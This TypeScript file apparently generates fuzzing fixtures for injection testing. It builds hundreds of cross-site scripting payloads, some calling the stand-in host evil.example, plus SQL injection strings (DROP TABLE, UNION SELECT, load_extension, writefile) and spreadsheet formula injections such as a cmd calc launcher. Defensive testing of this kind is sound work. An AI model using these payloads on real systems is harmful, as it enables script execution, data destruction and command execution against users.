/** What would run it, and what it would run. */
const RUNS = ['alert(1)', 'fetch("http://evil.example/x")', 'window.ranHere=1'];
const SHAPES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><img src=x onerror='${run}'>`,
  (run) => `<img src="http://evil.example/p.png" onload='${run}'>`,
  (run) => `<svg onload='${run}'>`,
  (run) => `<svg><animate onbegin='${run}' attributeName=x dur=1s>`,
  (run) => `<iframe srcdoc="<script>${run.replaceAll('"', '&quot;')}</script>">`,
  (run) => `<iframe src='javascript:${run}'>`,
  (run) => `<a href='javascript:${run}' autofocus onfocus='${run}'>x</a>`,
  (run) => `<details open ontoggle='${run}'>`,
  (run) => `<body onload='${run}'>`,
  (run) => `<math><mi xlink:href='javascript:${run}'>`,
  (run) => `<style>@import "http://evil.example/a.css";</style><b onmouseover='${run}'>`,
  (run) => `<link rel=stylesheet href=http://evil.example/a.css><b style='x:expression(${run})'>`,
  (run) => `<object data='data:text/html,<script>${run}</script>'>`,
  (run) => `<embed src='data:image/svg+xml,<svg onload=${run}>'>`,
  (run) => `<form action='javascript:${run}'><button autofocus>`,
  (run) => `<meta http-equiv=refresh content='0;javascript:${run}'>`,
  (run) => `<base href=http://evil.example/><script src=a.js></script>${run}`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `</textarea></title></style><script>${run}</script>`,
  (run) => `<!--<img src="--><img src=x onerror='${run}'>`,
  (run) => `<scr\0ipt>${run}</scr\0ipt>`,
  (run) => `\u202e<script>${run}</script>`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `<x onclick='${run}' tabindex=1 id=x>[x](javascript:${run})`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<template><script>${run}</script></template><slot onslotchange='${run}'>`,
  (run) => `<input autofocus onfocus='${run}'>`,
  (run) => `<video><source onerror='${run}'></video>`,
];

/** Three hundred texts that run something wherever text is taken for a page. */
export const PAGE_TEXTS: readonly string[] = Array.from({ length: 300 }, (_, index) => {
  const shape = SHAPES[index % SHAPES.length];
  const run = RUNS[Math.floor(index / SHAPES.length) % RUNS.length] ?? '';
  const shaped = shape?.(run) ?? '';
  return (
    [shaped, shaped.toUpperCase(), shaped.replaceAll("'", '"'), ` ${shaped}`][
      Math.floor(index / (SHAPES.length * RUNS.length)) % 4
    ] ?? shaped
  );
});

const QUOTES = ["'", '"', '`', '\\', '\u2019', "''", '";', "')", "');", "' ", ''];
const CLAUSES = [
  'OR 1=1',
  "OR '1'='1",
  'DROP TABLE worker',
  'DELETE FROM bank_line',
  "UPDATE household SET name = 'x'",
  'UNION SELECT key FROM workspace_fact',
  "ATTACH DATABASE '/tmp/mainstay-was-here.db' AS x",
  'PRAGMA key',
  "SELECT load_extension('x')",
  "VACUUM INTO '/tmp/mainstay-was-here.db'",
  "WHERE id LIKE '%'",
  'LIMIT -1 OFFSET 0',
  '|| randomblob(1000000000)',
  "SELECT writefile('/tmp/mainstay-was-here.db', 1)",
  '%',
  '_',
  '%_%',
  '?1',
  ':name',
  '$household',
];
const ENDS = ['--', ';--', '/*', '*/', ';', '#', '\0', '\n--', ')', ''];

/** Two thousand texts that would change a question to the database wherever text became part of one. */
export const DATABASE_TEXTS: readonly string[] = QUOTES.flatMap((quote) =>
  CLAUSES.flatMap((clause) => ENDS.map((end) => `x${quote} ${clause}${end}`)),
).slice(0, 2_000);

/** Texts that a spreadsheet would take for a formula, in their plain and their full-width forms. */
export const FORMULA_TEXTS: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\0',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u200b=',
  '\ufeff=',
  '−',
].flatMap((start) => [
  `${start}1+1`,
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("http://evil.example/","x")`,
  `${start}SUM(A1:A9)`,
]);
